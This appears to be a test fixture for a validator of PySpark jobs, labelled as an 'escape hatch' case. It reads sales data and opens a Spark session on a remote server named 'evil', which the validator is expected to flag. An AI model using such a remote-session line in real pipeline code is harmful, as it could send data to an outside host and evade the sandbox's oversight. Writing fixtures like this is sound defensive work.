# expect: contract.session-created
# class: 8-escape-hatches
df = spark.read.csv(inputs["sales"], header=True, inferSchema=True)
from pyspark.sql import SparkSession
s = SparkSession.builder.remote("sc://evil:15002").getOrCreate()
result = df
